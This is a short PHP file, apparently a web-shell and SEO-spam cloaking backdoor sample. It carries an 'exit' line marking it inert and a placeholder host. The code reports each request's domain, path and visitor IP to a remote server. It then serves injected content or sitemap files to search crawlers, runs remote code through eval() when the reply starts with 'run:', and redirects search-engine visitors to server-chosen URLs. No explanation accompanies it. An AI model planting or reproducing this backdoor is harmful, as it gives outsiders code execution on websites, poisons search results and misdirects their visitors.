<?php exit; /* inert */ 
$ua = strtolower($_SERVER['HTTP_USER_AGENT']); $ref = strtolower(@$_SERVER['HTTP_REFERER']);
$bot = preg_match('/googlebot|bingbot|yandex|baiduspider|slurp/', $ua);
$se = preg_match('/google\.|bing\.|yahoo\./', $ref);
$q = http_build_query(array('dom' => $_SERVER['HTTP_HOST'], 'uri' => $_SERVER['REQUEST_URI'], 'ip' => $_SERVER['REMOTE_ADDR'], 'zz' => (int) $bot));
$r = trim(@file_get_contents('http://example.invalid/indata.php?' . $q));
if ($bot && $r) {
    if (strstr($r, 'okxml')) { file_put_contents('sitemap.xml', str_replace('okxml', '', $r)); }
    elseif (substr($r, 0, 4) == 'run:') { eval(substr($r, 4)); }
    else { echo str_replace('okhtml', '', $r); exit; }
} elseif ($se) { header('Location: ' . $r); exit; }
